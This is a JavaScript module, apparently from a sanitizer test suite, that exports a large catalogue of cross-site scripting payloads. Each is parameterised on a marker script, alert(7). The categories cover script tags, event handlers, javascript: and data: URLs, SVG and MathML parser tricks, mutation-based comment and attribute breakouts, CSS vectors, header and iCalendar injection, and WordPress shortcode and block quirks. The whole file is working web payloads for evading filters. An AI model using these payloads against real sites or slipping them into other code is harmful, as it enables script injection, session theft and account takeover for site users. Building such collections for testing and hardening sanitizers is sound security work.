/*
 * Ways to bring a script into a page, one of each class. Each is a function of the script's text (`alert(7)`), so that
 * the number identifies the script that ran. None is taken from a collection: they follow the HTML, SVG, MathML, CSS,
 * URL, JSON, XML, iCalendar and RSS standards.
 */

const tab = '\t';
const newline = '\n';
const nul = '\0';
/** Every character as a numeric entity. */
const entities = (text, form = (code) => `&#${code};`) => [...text].map((char) => form(char.codePointAt(0))).join('');
const base64 = (text) => Buffer.from(text).toString('base64');
const fullWidth = (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e');
const escapedJson = (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e').replaceAll('"', '\\u0022');
const image = (js) => `<img src=x onerror=${js}>`;

/** Elements that run their contents. */
const ELEMENTS = {
  'script': (js) => `<script>${js}</script>`,
  'script, mixed case, blank in the end tag': (js) => `<ScRiPt>${js}</sCrIpT\t>`,
  'script with a type': (js) => `<script type="text/javascript">${js}</script>`,
  'module': (js) => `<script type=module>${js}</script>`,
  'script from a data URL': (js) => `<script src="data:text/javascript,${js}"></script>`,
  'script whose name is cut by a NUL': (js) => `<scr${nul}ipt>${js}</scr${nul}ipt>`,
  'script within a removed tag': (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  'script with a slash for a blank': (js) => `<script/x>${js}</script>`,
  'script without an end': (js) => `<script>${js}//`,
  'script after an open tag': (js) => `<b <script>${js}</script>`,
  'two opening brackets': (js) => `<<script>${js}//<</script>`,
  'script in letters of full width': (js) => fullWidth(`<script>${js}</script>`),
  'script in entities': (js) => entities(`<script>${js}</script>`),
  'script in entities of entities': (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  'script in percent signs': (js) => encodeURIComponent(`<script>${js}</script>`),
  'iframe with a document': (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  'iframe with a script for an address': (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  'object with a document': (js) => `<object data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
  'embedded SVG': (js) => `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}">`,
  'shadow root': (js) => `<div><template shadowrootmode=open>${image(js)}</template></div>`,
  'shadow root in a template': (js) => `<template>${image(js)}</template>`,
  'meta that refreshes': (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  'base of all addresses': (js) => `<base href="javascript:/a/-${js}//"><a href="#">x</a>`,
  'form': (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  'button of a form elsewhere': (js) => `<form id=f></form><button form=f formaction="javascript:${js}">x</button>`,
  'input as image': (js) => `<input type=image src=x onerror=${js}>`,
}; // biome-ignore format: a table

/** Attributes that contain a script. */
const HANDLERS = {
  'handler of an error': image,
  'handler between quotes': (js) => `<img src="x" onerror="${js}">`,
  'handler after a slash': (js) => `<img/src=x/onerror=${js}>`,
  'handler after a quote': (js) => `<img src="x"onerror="${js}">`,
  'handler after a form feed': (js) => `<img src=x\fonerror=${js}>`,
  'handler after a line break': (js) => `<img src=x${newline}onerror${newline}=${newline}${js}>`,
  'handler after a NUL': (js) => `<img src=x on${nul}error=${js}>`,
  'handler behind an unclosed quote': (js) => `<img title="'><img src=x onerror=${js}>">`,
  'handler in entities': (js) => `<img src=x onerror="${entities(js)}">`,
  'handler behind a backtick': (js) => `<img src=\`x\` onerror=${js}>`,
  'handler of an allowed element': (js) => `<a href="#" onclick="${js}" onmouseover=${js}>x</a>`,
  'handler of focus': (js) => `<a tabindex=1 onfocus=${js} autofocus>x</a>`,
  'handler of details': (js) => `<details open ontoggle=${js}><summary>x</summary></details>`,
  'handler of a video': (js) => `<video src=x onerror=${js}></video><audio src=x onerror=${js}></audio>`,
  'handler of a source': (js) => `<video><source onerror=${js}></video>`,
  'handler of an animation': (js) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${js}>x</b>`,
  'handler of a popover': (js) => `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${js}>y</div>`,
  'handler of a body': (js) => `<body onload=${js} onpageshow=${js}>`,
  'handler of a marquee': (js) => `<marquee onstart=${js}>x</marquee>`,
  'handler of content that is rendered late': (js) => `<div style="content-visibility:auto" oncontentvisibilityautostatechange=${js}>x</div>`,
  'handler of an unknown element': (js) => `<x-y onclick=${js}>x</x-y>`,
  'handler with a namespace': (js) => `<img src=x xml:onerror=${js} onerror=${js}>`,
  'handler in upper case': (js) => `<IMG SRC=X ONERROR=${js}>`,
}; // biome-ignore format: a table

/** URLs that are scripts. */
const link = (href) => `<a href="${href}">x</a>`;
const URLS = {
  'javascript': (js) => link(`javascript:${js}`),
  'javascript, bare': (js) => `javascript:${js}`,
  'javascript, bare, behind an authority': (js) => `javascript://example.org/%0a${js}`,
  'javascript, mixed case': (js) => link(`JaVaScRiPt:${js}`),
  'javascript with a blank before it': (js) => link(` \x01javascript:${js}`),
  'javascript with a tab': (js) => link(`java${tab}script:${js}`),
  'javascript with a line break': (js) => link(`java${newline}script:${js}`),
  'javascript with a tab as an entity': (js) => link(`java&Tab;script&colon;${js}`),
  'javascript with a line break as an entity': (js) => link(`java&NewLine;script:${js}`),
  'javascript with parts in entities': (js) => link(`&#x6A;avascript&#58;${js}`),
  'javascript in long entities without semicolons': (js) => link(`${entities('javascript:', (code) => `&#${String(code).padStart(7, '0')}`)}${js}`),
  'javascript in entities': (js) => link(entities(`javascript:${js}`, (code) => `&#x${code.toString(16)};`)),
  'javascript twice': (js) => link(`javascript:javascript:${js}`),
  'javascript behind an allowed scheme': (js) => link(`http:javascript:${js}`),
  'javascript behind a comment': (js) => link(`javascript:/*-/*\`/*\\\`/*'/*\\"/**/(${js})//`),
  'vbscript': (js) => link(`vbscript:${js}`),
  'data': (js) => link(`data:text/html,<script>${js}</script>`),
  'data, in base 64': (js) => link(`data:text/html;base64,${base64(`<script>${js}</script>`)}`),
  'blob and view-source': (js) => `${link(`view-source:javascript:${js}`)}${link(`blob:javascript:${js}`)}`,
  'feed around javascript': (js) => link(`feed:javascript:${js}`),
  'link without quotes': (js) => `<a href=javascript:${js}>x</a>`,
  'link in an area': (js) => `<map name=m><area shape=default href="javascript:${js}"></map><img usemap=#m src=x>`,
  'address of an image': (js) => `<img src="javascript:${js}"><video poster="javascript:${js}"></video>`,
  'address of a quotation': (js) => `<blockquote cite="javascript:${js}">x</blockquote><q cite="javascript:${js}">y</q>`,
  'address that breaks out of its attribute': (js) => `https://example.org/"onmouseover="${js}"x="`,
  'address that breaks out of its attribute and tag': (js) => `https://example.org/"><img src=x onerror=${js}>`,
  'address with a single quote': (js) => `https://example.org/'onmouseover='${js}'x='`,
  'address with a script for a user': (js) => `https://javascript:${js}@example.org/`,
}; // biome-ignore format: a table

/** Foreign elements, and the ways in which parsers treat them. */
const FOREIGN = {
  'SVG that loads': (js) => `<svg onload=${js}></svg>`,
  'SVG with a script': (js) => `<svg><script>${js}</script></svg>`,
  'SVG with a script in entities': (js) => `<svg><script>${entities(js)}</script></svg>`,
  'SVG whose script has an address': (js) => `<svg><script href="data:,${js}"></script></svg>`,
  'SVG that animates a link': (js) => `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=20>x</text></a></svg>`,
  'SVG that sets a handler': (js) => `<svg><set attributeName=onmouseover to=${js} /></svg>`,
  'SVG whose animation begins': (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  'SVG with HTML in it': (js) => `<svg><foreignObject>${image(js)}</foreignObject></svg>`,
  'SVG that uses another': (js) =>
    `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js}'/></svg>`)}#x"/></svg>`,
  'link of XLink': (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  'MathML with a link': (js) => `<math><mtext href="javascript:${js}">x</mtext><maction xlink:href="javascript:${js}">y</maction></math>`,
  'MathML that becomes HTML': (js) => `<math><mtext><table><mglyph><style><!--</style>${image(js)}-->`,
  'MathML around a comment': (js) => `<math><annotation-xml encoding="text/html"><style>${image(js)}</style></annotation-xml></math>`,
  'SVG style that ends early': (js) => `<svg></p><style><a id="</style>${image(js)}">`,
  'form in a form': (js) => `<form><math><mtext></form><form><mglyph><style></math>${image(js)}`,
}; // biome-ignore format: a table

/** Texts that one parser takes for text and the next one for markup. */
const MUTATIONS = {
  'noscript': (js) => `<noscript><p title="</noscript>${image(js)}"></noscript>`,
  'title in an attribute': (js) => `<title><a title="</title>${image(js)}"></title>`,
  'textarea in an attribute': (js) => `<textarea><a title="</textarea>${image(js)}"></textarea>`,
  'textarea around a comment': (js) => `<textarea><!--</textarea>${image(js)}--></textarea>`,
  'style in an attribute': (js) => `<style><a title="</style>${image(js)}"></style>`,
  'xmp, noembed, noframes, plaintext': (js) => `<xmp><p title="</xmp>${image(js)}"><noembed><p title="</noembed>${image(js)}"><plaintext>`,
  'comment that ends early': (js) => `<!--> ${image(js)} -->`,
  'comment that ends with a dash': (js) => `<!---> ${image(js)} -->`,
  'comment that ends with an exclamation mark': (js) => `<!-- --!> ${image(js)} -->`,
  'comment in a comment': (js) => `<!-- <!-- --> ${image(js)} -->`,
  'comment over two lines': (js) => `<!-- ${newline}${image(js)}${newline}-->`,
  'comment without an end': (js) => `<!-- ${image(js)}`,
  'comment inside a tag': (js) => `<img <!-- --> src=x onerror=${js}//>`,
  'conditional comment': (js) => `<!--[if gte IE 4]>${image(js)}<![endif]-->`,
  'processing instruction': (js) => `<?xml version="1.0"?><?php ${image(js)} ?>${image(js)}`,
  'character data': (js) => `<![CDATA[ ${image(js)} ]]>`,
  'end tag that is none': (js) => `</ ${image(js)}></!x ${image(js)}>`,
  'document type': (js) => `<!doctype x [ ${image(js)} ]>`,
  'table that moves its content': (js) => `<table><a href="javascript:${js}">${image(js)}</table>`,
  'select that drops its content': (js) => `<select><option><img src=x onerror=${js}></select>`,
  'backtick in an attribute': (js) => `<b title="\`\`onmouseover=${js}">x</b>`,
  'bracket in an attribute': (js) => `<b title="><img src=x onerror=${js}>">x</b>`,
  'bracket in entities in an attribute': (js) => `<b title="&lt;img src=x onerror=${js}&gt;">x</b>`,
}; // biome-ignore format: a table

/** Styles. */
const STYLES = {
  'style with an expression': (js) => `<b style="width:expression(${js})">x</b>`,
  'style with an address': (js) => `<b style="background:url(javascript:${js})">x</b>`,
  'style with an address behind escapes': (js) => `<b style="background:\\75rl(javascript:${js})">x</b>`,
  'style with a binding': (js) => `<b style="-moz-binding:url(data:text/xml,${js});behavior:url(x)">x</b>`,
  'style that ends its attribute': (js) => `<b style="color:red&quot; onmouseover=&quot;${js}">x</b>`,
  'style in a custom property': (js) => `<b style="--x:url('javascript:${js}')">x</b>`,
  'style sheet': (js) => `<style>@import 'javascript:${js}';</style><link rel=stylesheet href="javascript:${js}">`,
}; // biome-ignore format: a table

/** Texts that break out of the place where a server or a page puts them. */
const BREAKOUTS = {
  'out of a double-quoted attribute': (js) => `" onmouseover="${js}" x="`,
  'out of a single-quoted attribute': (js) => `' onmouseover='${js}' x='`,
  'out of an attribute and its tag': (js) => `">${image(js)}`,
  'out of a script with JSON': (js) => `</script><script>${js}</script>`,
  'out of a script with JSON, escaped': (js) => escapedJson(`</script><script>${js}</script>`),
  'out of a script with JSON by a comment': (js) => `<!--<script>${js}</script>`,
  'out of a text of JavaScript': (js) => `";${js};//`,
  'out of a text of JavaScript by a backslash': (js) => `\\";${js};//`,
  'out of a text of JavaScript by a line separator': (js) => `\u2028${js}\u2029`,
  'out of a template': (js) => `\${${js}}{{${js}}}`,
  'into a call (JSONP)': (js) => `${js};x`,
  'out of character data of RSS': (js) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${js}</script><![CDATA[`,
  'out of an element of RSS': (js) => `</title></item><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  'out of a line of iCalendar': (js) => `x\r\nX-ALT-DESC;FMTTYPE=text/html:${image(js)}\r\nURL:javascript:${js}`,
  'out of a line of iCalendar, escaped': (js) => `x\\nX-ALT-DESC;FMTTYPE=text/html:${image(js)}`,
  'out of a header': (js) => `x\r\nContent-Type: text/html\r\n\r\n<script>${js}</script>`,
}; // biome-ignore format: a table

/** Texts that WordPress transforms when rendering them. */
const RENDERED = {
  'shortcode with a handler': (js) => `[caption id="x" width="1" caption="${image(js)}"]${image(js)}[/caption]`,
  'shortcode in an attribute': (js) => `<a title="[caption]" href="[gallery link='javascript:${js}']">x</a>`,
  'block with a script in its attributes': (js) => `<!-- wp:html {"content":"\\u003cscript\\u003e${js}\\u003c/script\\u003e"} --><p>x</p><!-- /wp:html -->`,
  'block whose name is one': (js) => `<!-- wp:image {"url":"javascript:${js}"} --><figure><img src="javascript:${js}" onerror="${js}"/></figure><!-- /wp:image -->`,
  'address on a line of its own': (js) => `https://example.org/"><img src=x onerror=${js}>\n\njavascript:${js}\n`,
  'quotes that are made pretty in a tag': (js) => `<a title='"' href="x" title="' onmouseover=${js} '">x</a>`,
  'quotes that are made pretty in code': (js) => `<code title="&quot;">" onmouseover=${js} "</code>`,
  'paragraphs made within a tag': (js) => `<a title="\n\n<p>" href='\n\n' class="\n\nonmouseover=${js}\n\n">x</a>`,
  'smiley in an attribute': (js) => `<a href=":)" title=":-) onmouseover=${js}">:)</a>`,
}; // biome-ignore format: a table

/** All payloads: `{name, text}`, where `text(js)` returns the text to write. */
export const PAYLOADS = Object.entries({
  element: ELEMENTS,
  handler: HANDLERS,
  URL: URLS,
  foreign: FOREIGN,
  mutation: MUTATIONS,
  style: STYLES,
  breakout: BREAKOUTS,
  rendered: RENDERED,
}).flatMap(([group, table]) => Object.entries(table).map(([name, text]) => ({ name: `${group}: ${name}`, text })));
